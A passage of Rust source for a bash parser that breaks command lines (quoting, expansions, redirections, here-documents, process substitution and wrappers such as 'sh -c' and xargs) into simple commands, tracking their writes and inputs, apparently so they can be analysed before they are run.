    fn assignment_prefix_len(&self) -> Option<usize> {
        let rest = self.b.get(self.pos..)?;
        if !is_name_start(*rest.first()?) {
            return None;
        }
        let mut i = rest.iter().take_while(|&&c| is_name_char(c)).count();
        if rest.get(i) == Some(&b'[') {
            let close = rest
                .get(i..)?
                .iter()
                .position(|&c| c == b']' || c == b' ' || c == b'\t' || c == b'\n')?;
            if rest.get(i + close) != Some(&b']') {
                return None;
            }
            i += close + 1;
        }
        if rest.get(i) == Some(&b'+') {
            i += 1;
        }
        (rest.get(i) == Some(&b'=')).then_some(i + 1)
    }

    /// `NAME=value`, or `NAME=( elements… )`.
    fn parse_assignment_word(&mut self) -> Res<Word> {
        let start = self.pos;
        let prefix = self.assignment_prefix_len().unwrap_or(0);
        let mut w = self.parse_word(WordMode::Normal)?;
        if self.pos == start + prefix && self.peek() == Some(b'(') {
            self.pos += 1;
            self.enter()?;
            let r = self.array_elements(&mut w);
            self.leave();
            r?;
            w.text = self.slice(start, self.pos)?.to_string();
            w.plain = false;
        }
        Ok(w)
    }

    fn array_elements(&mut self, w: &mut Word) -> Res<()> {
        let open = self.pos;
        loop {
            self.linebreak()?;
            match self.peek() {
                Some(b')') => {
                    self.pos += 1;
                    return Ok(());
                }
                None => return self.err_at(open, "unterminated array assignment"),
                Some(c)
                    if is_meta(c)
                        && !(matches!(c, b'<' | b'>') && self.peek_at(1) == Some(b'(')) =>
                {
                    return self.err_unexpected()
                }
                _ => {
                    let e = self.parse_word(WordMode::Normal)?;
                    w.dynamic |= e.dynamic;
                    w.subs.extend(e.subs);
                }
            }
        }
    }

    fn try_parse_redirect(&mut self) -> Res<Option<Redir>> {
        let b = self.b;
        let mut op = self.pos;
        let mut has_fd = false;
        let mut stdin = true;
        let digits = b
            .get(self.pos..)
            .unwrap_or_default()
            .iter()
            .take_while(|c| c.is_ascii_digit())
            .count();
        if digits > 0 && matches!(b.get(self.pos + digits), Some(b'<' | b'>')) {
            op = self.pos + digits;
            has_fd = true;
            stdin = b
                .get(self.pos..op)
                .is_some_and(|d| d.iter().all(|&c| c == b'0'));
        } else if b.get(self.pos) == Some(&b'{') {
            let name = b
                .get(self.pos + 1..)
                .unwrap_or_default()
                .iter()
                .take_while(|&&c| is_name_char(c))
                .count();
            if name > 0
                && b.get(self.pos + 1 + name) == Some(&b'}')
                && matches!(b.get(self.pos + 2 + name), Some(b'<' | b'>'))
            {
                op = self.pos + 2 + name;
                has_fd = true;
                stdin = false;
            }
        }
        let rest = b.get(op..).unwrap_or_default();
        let starts = |s: &[u8]| rest.starts_with(s);
        let (kind, len, strip_tabs) = if !has_fd && starts(b"&>>") {
            (RedirKind::Write, 3, false)
        } else if !has_fd && starts(b"&>") {
            (RedirKind::Write, 2, false)
        } else if starts(b"<<<") {
            (RedirKind::HereString, 3, false)
        } else if starts(b"<<-") {
            (RedirKind::HereDoc, 3, true)
        } else if starts(b"<<") {
            (RedirKind::HereDoc, 2, false)
        } else if starts(b"<>") {
            (RedirKind::Write, 2, false)
        } else if starts(b"<&") {
            (RedirKind::Dup, 2, false)
        } else if starts(b"<(") {
            return Ok(None);
        } else if starts(b"<") {
            (RedirKind::Read, 1, false)
        } else if starts(b">>") || starts(b">|") {
            (RedirKind::Write, 2, false)
        } else if starts(b">&") {
            (RedirKind::Dup, 2, false)
        } else if starts(b">(") {
            return Ok(None);
        } else if starts(b">") {
            (RedirKind::Write, 1, false)
        } else {
            return Ok(None);
        };
        let is_out_dup = kind == RedirKind::Dup && rest.first() == Some(&b'>');
        self.pos = op + len;
        self.skip_blanks();
        match self.peek() {
            None => return self.err("missing redirection target"),
            Some(c)
                if is_meta(c) && !(matches!(c, b'<' | b'>') && self.peek_at(1) == Some(b'(')) =>
            {
                return self.err("missing redirection target")
            }
            _ => {}
        }
        let target = self.parse_word(WordMode::Normal)?;
        let mut kind = kind;
        let mut heredoc = None;
        match kind {
            RedirKind::HereDoc => {
                let id = self.shared.bodies.len();
                self.shared.bodies.push(None);
                self.pending.push(Pending {
                    delim: target.text.clone(),
                    strip_tabs,
                    quoted: target.quoted,
                    id,
                });
                heredoc = Some(id);
            }
            RedirKind::Dup => {
                let fd_like = !target.dynamic && is_fd_like(&target.text);
                if !fd_like {
                    // `>&file` writes to file; `<&file` is at worst a read.
                    kind = if is_out_dup {
                        RedirKind::Write
                    } else {
                        RedirKind::Read
                    };
                }
            }
            _ => {}
        }
        Ok(Some(Redir {
            kind,
            target,
            heredoc,
            stdin,
        }))
    }

    // ----- words -----------------------------------------------------------

    fn parse_word(&mut self, mode: WordMode) -> Res<Word> {
        let start = self.pos;
        let mut w = Word::new(self.base + start);
        let mut g = Glob::default();
        let mut rdepth = 0usize;
        while let Some(c) = self.peek() {
            if is_meta(c) {
                if matches!(c, b'<' | b'>') && self.peek_at(1) == Some(b'(') {
                    self.parse_procsub(&mut w)?;
                    g.last_ext = false;
                    continue;
                }
                if c == b'(' && g.last_ext {
                    self.parse_extglob(&mut w)?;
                    g.last_ext = false;
                    continue;
                }
                if mode == WordMode::Regex {
                    match c {
                        b'(' => {
                            rdepth += 1;
                            self.pos += 1;
                            w.literal('(', &mut g);
                            continue;
                        }
                        b')' if rdepth > 0 => {
                            rdepth -= 1;
                            self.pos += 1;
                            w.literal(')', &mut g);
                            continue;
                        }
                        b'|' => {
                            self.pos += 1;
                            w.literal('|', &mut g);
                            continue;
                        }
                        b')' | b'\n' => {}
                        _ if rdepth > 0 => {
                            self.pos += 1;
                            w.literal(char::from(c), &mut g);
                            continue;
                        }
                        _ => {}
                    }
                }
                break;
            }
            g.last_ext = false;
            match c {
                b'\\' => match self.peek_at(1) {
                    Some(b'\n') => self.pos += 2,
                    None => {
                        self.pos += 1;
                        w.quoted_char('\\');
                    }
                    Some(_) => {
                        self.pos += 1;
                        let ch = self.bump_char();
                        w.quoted_char(ch);
                    }
                },
                b'\'' => self.parse_single(&mut w)?,
                b'"' => self.parse_dq(&mut w)?,
                b'$' => match self.peek_at(1) {
                    Some(b'\'') => self.parse_ansi(&mut w)?,
                    Some(b'"') => {
                        self.pos += 1;
                        self.parse_dq(&mut w)?;
                    }
                    _ => self.parse_dollar(&mut w, Ctx::Unquoted)?,
                },
                b'`' => self.parse_backtick(&mut w, false)?,
                _ => {
                    let ch = self.bump_char();
                    w.literal(ch, &mut g);
                }
            }
        }
        if self.pos == start {
            return self.err("expected a word");
        }
        Ok(w)
    }

    fn parse_single(&mut self, w: &mut Word) -> Res<()> {
        let open = self.pos;
        let Some(close) = self.find_byte(open + 1, b'\'') else {
            return self.err_at(open, "unterminated single quote");
        };
        let s = self.slice(open + 1, close)?;
        w.quoted_str(s);
        self.pos = close + 1;
        Ok(())
    }

    /// `$'…'` (ANSI-C quoting).
    fn parse_ansi(&mut self, w: &mut Word) -> Res<()> {
        let open = self.pos;
        self.pos += 2;
        let mut out: Vec<u8> = Vec::new();
        loop {
            match self.peek() {
                None => return self.err_at(open, "unterminated $'…' quote"),
                Some(b'\'') => {
                    self.pos += 1;
                    break;
                }
                Some(b'\\') => {
                    self.pos += 1;
                    let Some(e) = self.peek() else {
                        return self.err_at(open, "unterminated $'…' quote");
                    };
                    self.pos += 1;
                    match e {
                        b'a' => out.push(7),
                        b'b' => out.push(8),
                        b'e' | b'E' => out.push(27),
                        b'f' => out.push(12),
                        b'n' => out.push(b'\n'),
                        b'r' => out.push(b'\r'),
                        b't' => out.push(b'\t'),
                        b'v' => out.push(11),
                        b'\\' | b'\'' | b'"' | b'?' => out.push(e),
                        b'0'..=b'7' => {
                            let mut v = u32::from(e - b'0');
                            for _ in 0..2 {
                                match self.peek() {
                                    Some(d @ b'0'..=b'7') => {
                                        v = v * 8 + u32::from(d - b'0');
                                        self.pos += 1;
                                    }
                                    _ => break,
                                }
                            }
                            out.push((v & 0xff) as u8);
                        }
                        b'x' | b'u' | b'U' => {
                            let max = match e {
                                b'x' => 2,
                                b'u' => 4,
                                _ => 8,
                            };
                            let mut v: u32 = 0;
                            let mut n = 0;
                            while n < max {
                                match self.peek().and_then(|d| char::from(d).to_digit(16)) {
                                    Some(d) => {
                                        v = v.saturating_mul(16).saturating_add(d);
                                        self.pos += 1;
                                        n += 1;
                                    }
                                    None => break,
                                }
                            }
                            if n == 0 {
                                out.push(b'\\');
                                out.push(e);
                            } else if e == b'x' {
                                out.push((v & 0xff) as u8);
                            } else {
                                let ch = char::from_u32(v).unwrap_or(char::REPLACEMENT_CHARACTER);
                                let mut buf = [0u8; 4];
                                out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
                            }
                        }
                        b'c' => {
                            let Some(x) = self.peek() else {
                                return self.err_at(open, "unterminated $'…' quote");
                            };
                            self.pos += 1;
                            out.push(x & 0x1f);
                        }
                        other => {
                            out.push(b'\\');
                            out.push(other);
                        }
                    }
                }
                Some(c) => {
                    out.push(c);
                    self.pos += 1;
                }
            }
        }
        w.quoted_str(&String::from_utf8_lossy(&out));
        Ok(())
    }

    /// `"…"`; the position is at the opening quote.
    fn parse_dq(&mut self, w: &mut Word) -> Res<()> {
        let open = self.pos;
        self.pos += 1;
        w.plain = false;
        w.quoted = true;
        loop {
            match self.peek() {
                None => return self.err_at(open, "unterminated double quote"),
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(());
                }
                Some(b'\\') => match self.peek_at(1) {
                    Some(e @ (b'$' | b'`' | b'"' | b'\\')) => {
                        w.text.push(char::from(e));
                        self.pos += 2;
                    }
                    Some(b'\n') => self.pos += 2,
                    Some(_) => {
                        w.text.push('\\');
                        self.pos += 1;
                    }
                    None => return self.err_at(open, "unterminated double quote"),
                },
                Some(b'$') => self.parse_dollar(w, Ctx::Dq)?,
                Some(b'`') => self.parse_backtick(w, true)?,
                Some(_) => {
                    let ch = self.bump_char();
                    w.text.push(ch);
                }
            }
        }
    }

    /// `$…` expansions; the position is at the `$`.
    fn parse_dollar(&mut self, w: &mut Word, ctx: Ctx) -> Res<()> {
        let start = self.pos;
        match self.peek_at(1) {
            Some(b'(') => {
                if self.peek_at(2) == Some(b'(') && self.dparen_is_arith(self.pos + 3) {
                    self.pos += 3;
                    self.enter()?;
                    let r = self.arith_body(w, b')');
                    self.leave();
                    r?;
                } else {
                    self.pos += 2;
                    self.enter()?;
                    let r = self.nested_list(start, "unterminated command substitution");
                    self.leave();
                    w.subs.push(Sub {
                        kind: SubKind::Command,
                        list: r?,
                    });
                }
            }
            Some(b'{') => {
                self.pos += 2;
                self.enter()?;
                let r = self.param_body(w, ctx, start);
                self.leave();
                r?;
            }
            Some(b'[') => {
                self.pos += 2;
                self.enter()?;
                let r = self.arith_body(w, b']');
                self.leave();
                r?;
            }
            Some(c) if is_name_start(c) => {
                self.pos += 1;
                while self.peek().is_some_and(is_name_char) {
                    self.pos += 1;
                }
            }
            Some(c)
                if c.is_ascii_digit()
                    || matches!(c, b'@' | b'*' | b'#' | b'?' | b'-' | b'$' | b'!') =>
            {
                self.pos += 2;
            }
            _ => {
                self.pos += 1;
                w.text.push('$');
                return Ok(());
            }
        }
        let raw = self.slice(start, self.pos)?;
        w.expansion(raw);
        Ok(())
    }

    /// A command list up to the closing `)` of `$(`, `<(` or `>(`.
    fn nested_list(&mut self, open: usize, unterminated: &str) -> Res<List> {
        self.with_nested(|p| {
            let list = p.parse_list()?;
            p.skip_blanks_comments();
            match p.peek() {
                Some(b')') => {
                    p.pos += 1;
                    Ok(list)
                }
                None => p.err_at(open, unterminated),
                Some(_) => p.err_unexpected(),
            }
        })
    }

    fn parse_procsub(&mut self, w: &mut Word) -> Res<()> {
        let start = self.pos;
        let kind = if self.peek() == Some(b'<') {
            SubKind::ProcIn
        } else {
            SubKind::ProcOut
        };
        self.pos += 2;
        self.enter()?;
        let r = self.nested_list(start, "unterminated process substitution");
        self.leave();
        w.subs.push(Sub { kind, list: r? });
        let raw = self.slice(start, self.pos)?;
        w.expansion(raw);
        Ok(())
    }

    /// `` `…` ``: unescape like bash, then parse the result as a script.
    fn parse_backtick(&mut self, w: &mut Word, in_dq: bool) -> Res<()> {
        let start = self.pos;
        self.pos += 1;
        let mut content = String::new();
        loop {
            match self.peek() {
                None => return self.err_at(start, "unterminated backquote"),
                Some(b'`') => {
                    self.pos += 1;
                    break;
                }
                Some(b'\\') => match self.peek_at(1) {
                    Some(e @ (b'$' | b'`' | b'\\')) => {
                        content.push(char::from(e));
                        self.pos += 2;
                    }
                    Some(b'"') if in_dq => {
                        content.push('"');
                        self.pos += 2;
                    }
                    Some(_) => {
                        content.push('\\');
                        self.pos += 1;
                    }
                    None => return self.err_at(start, "unterminated backquote"),
                },
                Some(_) => {
                    let ch = self.bump_char();
                    content.push(ch);
                }
            }
        }
        self.enter()?;
        let r = {
            let mut sub = Parser::new(&content, self.base + start, self.depth, self.shared);
            sub.parse_script()
        };
        self.leave();
        w.subs.push(Sub {
            kind: SubKind::Command,
            list: r?,
        });
        let raw = self.slice(start, self.pos)?;
        w.expansion(raw);
        Ok(())
    }

    /// Body of `${…}` after the `${`; collects commands of nested expansions.
    fn param_body(&mut self, w: &mut Word, ctx: Ctx, start: usize) -> Res<()> {
        let mut braces = 0usize;
        loop {
            match self.peek() {
                None => return self.err_at(start, "unterminated '${'"),
                Some(b'}') => {
                    self.pos += 1;
                    if braces == 0 {
                        return Ok(());
                    }
                    braces -= 1;
                }
                Some(b'{') => {
                    braces += 1;
                    self.pos += 1;
                }
                Some(b'\\') => {
                    self.pos += 1;
                    if self.peek().is_none() {
                        return self.err_at(start, "unterminated '${'");
                    }
                    self.bump_char();
                }
                Some(b'\'') => {
                    let open = self.pos;
                    let Some(close) = self.find_byte(open + 1, b'\'') else {
                        return self.err_at(open, "unterminated single quote");
                    };
                    if ctx != Ctx::Unquoted {
                        // Inside double quotes the single quotes are literal and
                        // their content is still expanded.
                        let content = self.slice(open + 1, close)?;
                        let inner = self.parse_heredoc_text(content, self.base + open + 1)?;
                        w.subs.extend(inner.subs);
                    }
                    self.pos = close + 1;
                }
                Some(b'"') => {
                    let mut scratch = Word::new(0);
                    self.parse_dq(&mut scratch)?;
                    w.subs.extend(scratch.subs);
                }
                Some(b'$') => {
                    let mut scratch = Word::new(0);
                    if self.peek_at(1) == Some(b'\'') && ctx == Ctx::Unquoted {
                        self.parse_ansi(&mut scratch)?;
                    } else {
                        self.parse_dollar(&mut scratch, ctx)?;
                    }
                    w.subs.extend(scratch.subs);
                }
                Some(b'`') => {
                    let mut scratch = Word::new(0);
                    self.parse_backtick(&mut scratch, ctx == Ctx::Dq)?;
                    w.subs.extend(scratch.subs);
                }
                Some(_) => {
                    self.bump_char();
                }
            }
        }
    }

    /// Arithmetic text up to `))` (`close == b')'`) or `]` (`$[…]`).
    fn arith_body(&mut self, w: &mut Word, close: u8) -> Res<()> {
        let open = self.pos;
        let mut depth = 0usize;
        loop {
            match self.peek() {
                None => return self.err_at(open, "unterminated arithmetic expression"),
                Some(b'(') if close == b')' => {
                    depth += 1;
                    self.pos += 1;
                    self.check_paren_depth(depth)?;
                }
                Some(b'[') if close == b']' => {
                    depth += 1;
                    self.pos += 1;
                    self.check_paren_depth(depth)?;
                }
                Some(c) if c == close => {
                    if depth > 0 {
                        depth -= 1;
                        self.pos += 1;
                    } else if close == b']' {
                        self.pos += 1;
                        return Ok(());
                    } else if self.peek_at(1) == Some(b')') {
                        self.pos += 2;
                        return Ok(());
                    } else {
                        return self.err("expected '))' to close arithmetic expression");
                    }
                }
                Some(b'$' | b'`' | b'"' | b'\'') => {
                    let mut scratch = Word::new(0);
                    match self.peek() {
                        Some(b'$') if self.peek_at(1) == Some(b'\'') => {
                            self.parse_ansi(&mut scratch)?;
                        }
                        Some(b'$') => self.parse_dollar(&mut scratch, Ctx::Unquoted)?,
                        Some(b'`') => self.parse_backtick(&mut scratch, false)?,
                        Some(b'"') => self.parse_dq(&mut scratch)?,
                        _ => self.parse_single(&mut scratch)?,
                    }
                    w.subs.extend(scratch.subs);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    if self.peek().is_none() {
                        return self.err_at(open, "unterminated arithmetic expression");
                    }
                    self.bump_char();
                }
                Some(_) => {
                    self.bump_char();
                }
            }
        }
    }

    /// Decides whether `((` / `$((` starts arithmetic (bash: when the
    /// parenthesis opened at `from - 1` is closed by `))`), by a raw scan.
    fn dparen_is_arith(&self, from: usize) -> bool {
        let b = self.b;
        let mut depth = 0usize;
        let mut i = from;
        while let Some(&c) = b.get(i) {
            match c {
                b'\\' => i += 2,
                b'\'' | b'`' => match self.find_byte(i + 1, c) {
                    Some(j) => i = j + 1,
                    None => return false,
                },
                b'"' => {
                    i += 1;
                    loop {
                        match b.get(i) {
                            None => return false,
                            Some(b'\\') => i += 2,
                            Some(b'"') => {
                                i += 1;
                                break;
                            }
                            Some(_) => i += 1,
                        }
                    }
                }
                b'(' => {
                    depth += 1;
                    i += 1;
                }
                b')' => {
                    if depth == 0 {
                        return b.get(i + 1) == Some(&b')');
                    }
                    depth -= 1;
                    i += 1;
                }
                _ => i += 1,
            }
        }
        false
    }

    /// `@(…)`, `!(…)`, `?(…)`, `*(…)`, `+(…)` after the pattern character.
    fn parse_extglob(&mut self, w: &mut Word) -> Res<()> {
        let open = self.pos;
        let mut depth = 0usize;
        w.dynamic = true;
        w.plain = false;
        loop {
            match self.peek() {
                None => return self.err_at(open, "unterminated extended glob pattern"),
                Some(b'(') => {
                    depth += 1;
                    self.pos += 1;
                    w.text.push('(');
                    self.check_paren_depth(depth)?;
                }
                Some(b')') => {
                    self.pos += 1;
                    w.text.push(')');
                    depth = depth.saturating_sub(1);
                    if depth == 0 {
                        return Ok(());
                    }
                }
                Some(b'\\') => {
                    self.pos += 1;
                    if self.peek().is_none() {
                        return self.err_at(open, "unterminated extended glob pattern");
                    }
                    let ch = self.bump_char();
                    w.quoted_char(ch);
                }
                Some(b'\'') => self.parse_single(w)?,
                Some(b'"') => self.parse_dq(w)?,
                Some(b'$') if self.peek_at(1) == Some(b'\'') => self.parse_ansi(w)?,
                Some(b'$') => self.parse_dollar(w, Ctx::Unquoted)?,
                Some(b'`') => self.parse_backtick(w, false)?,
                Some(_) => {
                    let ch = self.bump_char();
                    w.text.push(ch);
                }
            }
        }
    }
}

fn is_fd_like(s: &str) -> bool {
    if s == "-" {
        return true;
    }
    let digits = s.strip_suffix('-').unwrap_or(s);
    !digits.is_empty() && digits.bytes().all(|c| c.is_ascii_digit())
}

// ---------------------------------------------------------------------------
// Walker: from syntax tree to simple commands
// ---------------------------------------------------------------------------

/// A script that a shell command would read on its standard input
/// (`bash <<EOF … EOF`, `sh <<< 'cmd'`).
#[derive(Debug)]
struct StdinScript {
    text: String,
    dynamic: bool,
    offset: usize,
}

/// What [`Walker::emit`] passes down to wrapped commands.
#[derive(Debug, Clone, Copy)]
struct EmitCtx<'x> {
    /// Inner command of `xargs`/`find -exec`: arguments are unknown.
    forced: bool,
    /// A redirection target is dynamic.
    extra_dynamic: bool,
    /// Offset for errors.
    offset: usize,
    /// Here-documents / here-strings on standard input.
    stdin: &'x [StdinScript],
}

/// Context inherited by the commands inside a construct.
#[derive(Debug, Clone, Default)]
struct Inherit {
    piped_from: Vec<String>,
    writes: Vec<String>,
    writes_dynamic: bool,
}

#[derive(Debug, Default)]
struct Walker {
    out: Vec<SimpleCommand>,
    entries: usize,
    bytes: usize,
}

fn basename(s: &str) -> &str {
    s.rsplit('/').next().unwrap_or(s)
}

fn basenames(cmds: &[SimpleCommand]) -> Vec<String> {
    cmds.iter()
        .filter_map(|c| c.argv.first())
        .map(|a| basename(a).to_string())
        .collect()
}

/// Here-documents and here-strings redirected to standard input.
fn stdin_scripts(redirs: &[Redir], bodies: &[Option<Word>]) -> Vec<StdinScript> {
    let mut out = Vec::new();
    for r in redirs.iter().filter(|r| r.stdin) {
        match r.kind {
            RedirKind::HereDoc => {
                if let Some(Some(body)) = r.heredoc.and_then(|id| bodies.get(id)) {
                    out.push(StdinScript {
                        text: body.text.clone(),
                        dynamic: body.dynamic,
                        offset: body.start,
                    });
                }
            }
            RedirKind::HereString => out.push(StdinScript {
                text: r.target.text.clone(),
                dynamic: r.target.dynamic,
                offset: r.target.start,
            }),
            _ => {}
        }
    }
    out
}

/// A redirection target that is just `<(…)` / `>(…)` (a pipe, not a file).
fn is_procsub_target(w: &Word) -> bool {
    w.subs.len() == 1
        && w.subs.iter().all(|s| s.kind != SubKind::Command)
        && (w.text.starts_with("<(") || w.text.starts_with(">("))
        && w.text.ends_with(')')
}

fn too_deep() -> ShellError {
    ShellError::TooDeep { limit: MAX_DEPTH }
}

impl Walker {
    fn run_script(&mut self, text: &str, base: usize, depth: usize, inh: &Inherit) -> Res<()> {
        if depth > MAX_DEPTH {
            return Err(too_deep());
        }
        let mut shared = Shared::default();
        let list = Parser::new(text, base, depth, &mut shared).parse_script()?;
        self.walk_list(&list, inh, &shared.bodies, depth)
    }

    fn push(&mut self, cmd: SimpleCommand) -> Res<()> {
        let strings = cmd.argv.iter().chain(&cmd.piped_from).chain(&cmd.writes);
        let bytes: usize = strings.clone().map(String::len).sum();
        self.entries = self.entries.saturating_add(1 + strings.count());
        self.bytes = self.bytes.saturating_add(bytes);
        if self.entries > MAX_OUTPUT_ENTRIES || self.bytes > MAX_OUTPUT_BYTES {
            return Err(ShellError::Syntax {
                offset: 0,
                message: "command line expands to too many simple commands to analyse".into(),
            });
        }
        self.out.push(cmd);
        Ok(())
    }

    fn walk_list(
        &mut self,
        list: &List,
        inh: &Inherit,
        bodies: &[Option<Word>],
        depth: usize,
    ) -> Res<()> {
        if depth > MAX_DEPTH {
            return Err(too_deep());
        }
        for p in list {
            let mut upstream = inh.piped_from.clone();
            let last = p.cmds.len().saturating_sub(1);
            for (i, cmd) in p.cmds.iter().enumerate() {
                let ci = Inherit {
                    piped_from: upstream.clone(),
                    writes: inh.writes.clone(),
                    writes_dynamic: inh.writes_dynamic,
                };
                let start = self.out.len();
                let timed: &[String] = if i == 0 { &p.timed } else { &[] };
                match cmd {
                    Command::Simple(s) => self.walk_simple(s, &ci, timed, bodies, depth)?,
                    Command::Compound(c) => self.walk_compound(c, &ci, bodies, depth)?,
                }
                if i < last {
                    upstream.extend(basenames(self.out.get(start..).unwrap_or_default()));
                }
            }
        }
        Ok(())
    }

    fn walk_sub(
        &mut self,
        sub: &Sub,
        inh: &Inherit,
        bodies: &[Option<Word>],
        depth: usize,
    ) -> Res<Vec<String>> {
        let before = self.out.len();
        self.walk_list(&sub.list, inh, bodies, depth + 1)?;
        Ok(basenames(self.out.get(before..).unwrap_or_default()))
    }

    /// Walks the substitutions of redirections (not `>(…)`), returning the
    /// basenames of the commands that feed standard input.
    fn walk_redir_subs(
        &mut self,
        redirs: &[Redir],
        inh: &Inherit,
        bodies: &[Option<Word>],
        depth: usize,
    ) -> Res<Vec<String>> {
        let mut feed = Vec::new();
        for r in redirs {
            if r.kind != RedirKind::HereDoc {
                for sub in &r.target.subs {
                    if sub.kind != SubKind::ProcOut {
                        let names = self.walk_sub(sub, inh, bodies, depth)?;
                        if r.kind == RedirKind::HereString || sub.kind == SubKind::ProcIn {
                            feed.extend(names);
                        }
                    }
                }
            }
            if let Some(Some(body)) = r.heredoc.and_then(|id| bodies.get(id)) {
                for sub in &body.subs {
                    feed.extend(self.walk_sub(sub, inh, bodies, depth)?);
                }
            }
        }
        Ok(feed)
    }

    fn walk_compound(
        &mut self,
        c: &Compound,
        inh: &Inherit,
        bodies: &[Option<Word>],
        depth: usize,
    ) -> Res<()> {
        let depth = depth + 1;
        if depth > MAX_DEPTH {
            return Err(too_deep());
        }
        let mut ci = inh.clone();
        for r in &c.redirs {
            if r.kind == RedirKind::Write && !is_procsub_target(&r.target) {
                ci.writes_dynamic |= r.target.dynamic;
                if r.target.dynamic || !HARMLESS_WRITE_TARGETS.contains(&r.target.text.as_str()) {
                    ci.writes.push(r.target.text.clone());
                }
            }
        }
        let saved = std::mem::take(&mut self.out);
        let res = self.walk_redir_subs(&c.redirs, inh, bodies, depth);
        let pre = std::mem::replace(&mut self.out, saved);
        ci.piped_from.extend(res?);
        let start = self.out.len();
        for w in &c.words {
            for sub in &w.subs {
                self.walk_sub(sub, &ci, bodies, depth)?;
            }
        }
        for l in &c.lists {
            self.walk_list(l, &ci, bodies, depth)?;
        }
        let names = basenames(self.out.get(start..).unwrap_or_default());
        self.out.extend(pre);
        let mut po = inh.clone();
        po.piped_from.extend(names);
        for r in &c.redirs {
            for sub in r.target.subs.iter().filter(|s| s.kind == SubKind::ProcOut) {
                self.walk_sub(sub, &po, bodies, depth)?;
            }
        }
        Ok(())
    }

    fn walk_simple(
        &mut self,
        s: &Simple,
        inh: &Inherit,
        timed: &[String],
        bodies: &[Option<Word>],
        depth: usize,
    ) -> Res<()> {
        let mut argv = Vec::new();
        let mut dyns = Vec::new();
        if !s.words.is_empty() {
            for t in timed {
                argv.push(t.clone());
                dyns.push(false);
            }
        }
        for w in &s.words {
            argv.push(w.text.clone());
            dyns.push(w.dynamic);
        }
        let mut writes = inh.writes.clone();
        let mut own_writes = false;
        let mut writes_dynamic = inh.writes_dynamic;
        let mut redir_dynamic = false;
        for r in &s.redirs {
            match r.kind {
                _ if is_procsub_target(&r.target) => {}
                RedirKind::Write => {
                    writes_dynamic |= r.target.dynamic;
                    if r.target.dynamic || !HARMLESS_WRITE_TARGETS.contains(&r.target.text.as_str())
                    {
                        writes.push(r.target.text.clone());
                        own_writes = true;
                    }
                }
                RedirKind::Read | RedirKind::Dup => redir_dynamic |= r.target.dynamic,
                RedirKind::HereDoc | RedirKind::HereString => {}
            }
        }

        // Substitutions run before the command; walk them aside (their
        // commands are listed after it) to learn what feeds its stdin.
        let sub_inh = Inherit {
            piped_from: inh.piped_from.clone(),
            writes: inh.writes.clone(),
            writes_dynamic: inh.writes_dynamic,
        };
        let saved = std::mem::take(&mut self.out);
        let res = self.walk_word_subs(s, &sub_inh, bodies, depth);
        let pre = std::mem::replace(&mut self.out, saved);
        let feed = res?;

        let start = self.out.len();
        if !argv.is_empty() || own_writes {
            let mut piped_from = inh.piped_from.clone();
            piped_from.extend(feed);
            let extra_dynamic = writes_dynamic || redir_dynamic;
            let offset = s
                .words
                .first()
                .or(s.redirs.first().map(|r| &r.target))
                .map_or(0, |w| w.start);
            let stdin = stdin_scripts(&s.redirs, bodies);
            let cmd = SimpleCommand {
                dynamic: extra_dynamic || dyns.iter().any(|d| *d),
                argv,
                piped_from,
                writes,
            };
            let ctx = EmitCtx {
                forced: false,
                extra_dynamic,
                offset,
                stdin: &stdin,
            };
            self.emit(cmd, &dyns, ctx, depth)?;
        }
        let names = basenames(self.out.get(start..).unwrap_or_default());
        self.out.extend(pre);

        let mut po = sub_inh;
        po.piped_from.extend(names);
        let words = s.assigns.iter().chain(&s.words);
        let targets = s.redirs.iter().map(|r| &r.target);
        for w in words.chain(targets) {
            for sub in w.subs.iter().filter(|s| s.kind == SubKind::ProcOut) {
                self.walk_sub(sub, &po, bodies, depth)?;
            }
        }
        Ok(())
    }

    /// Walks the substitutions of a simple command's assignments, words and
    /// redirections (not `>(…)`), returning the basenames feeding its stdin.
    fn walk_word_subs(
        &mut self,
        s: &Simple,
        inh: &Inherit,
        bodies: &[Option<Word>],
        depth: usize,
    ) -> Res<Vec<String>> {
        let mut feed = Vec::new();
        for w in s.assigns.iter().chain(&s.words) {
            for sub in w.subs.iter().filter(|s| s.kind != SubKind::ProcOut) {
                let names = self.walk_sub(sub, inh, bodies, depth)?;
                if sub.kind == SubKind::ProcIn {
                    feed.extend(names);
                }
            }
        }
        feed.extend(self.walk_redir_subs(&s.redirs, inh, bodies, depth)?);
        Ok(feed)
    }

    /// Emits `cmd`, then the commands it wraps (recursively).
    fn emit(
        &mut self,
        cmd: SimpleCommand,
        dyns: &[bool],
        ctx: EmitCtx<'_>,
        depth: usize,
    ) -> Res<()> {
        if depth > MAX_DEPTH {
            return Err(too_deep());
        }
        let EmitCtx {
            forced,
            extra_dynamic,
            offset,
            stdin,
        } = ctx;
        let mut inners = unwrap_wrapper(&cmd.argv, dyns, offset)?;
        if !stdin.is_empty() && shell_reads_stdin(&cmd.argv, dyns) {
            for script in stdin {
                if script.dynamic {
                    return Err(ShellError::Syntax {
                        offset: script.offset,
                        message: "a shell reading a dynamic here-document or here-string cannot be analysed".into(),
                    });
                }
                inners.push(Inner::Script(script.text.clone()));
            }
        }
        if inners.is_empty() {
            return self.push(cmd);
        }
        self.push(cmd.clone())?;
        for inner in inners {
            let (argv, d, force) = match inner {
                Inner::Argv { range, force } => {
                    let argv = cmd.argv.get(range.clone()).unwrap_or_default().to_vec();
                    let d = dyns.get(range).unwrap_or_default().to_vec();
                    (argv, d, force)
                }
                Inner::Literal { argv, force } => {
                    let d = vec![false; argv.len()];
                    (argv, d, force)
                }
                Inner::Script(text) => {
                    let inh = Inherit {
                        piped_from: cmd.piped_from.clone(),
                        writes: cmd.writes.clone(),
                        writes_dynamic: extra_dynamic,
                    };
                    self.run_script(&text, offset, depth + 1, &inh)?;
                    continue;
                }
            };
            let forced = forced || force;
            let inner_cmd = SimpleCommand {
                dynamic: forced || extra_dynamic || d.iter().any(|x| *x),
                argv,
                piped_from: cmd.piped_from.clone(),
                writes: cmd.writes.clone(),
            };
            let inner_ctx = EmitCtx { forced, ..ctx };
            self.emit(inner_cmd, &d, inner_ctx, depth + 1)?;
        }
        Ok(())
    }
}

// ---------------------------------------------------------------------------
// Wrappers
// ---------------------------------------------------------------------------

/// A command run by a wrapper command.
#[derive(Debug)]
enum Inner {
    /// A slice of the wrapper's argv; `force` marks it dynamic (xargs, find).
    Argv { range: Range<usize>, force: bool },
    /// A fixed argv (xargs' default `echo`).
    Literal { argv: Vec<String>, force: bool },
    /// A script to parse (`sh -c`, `eval`).
    Script(String),
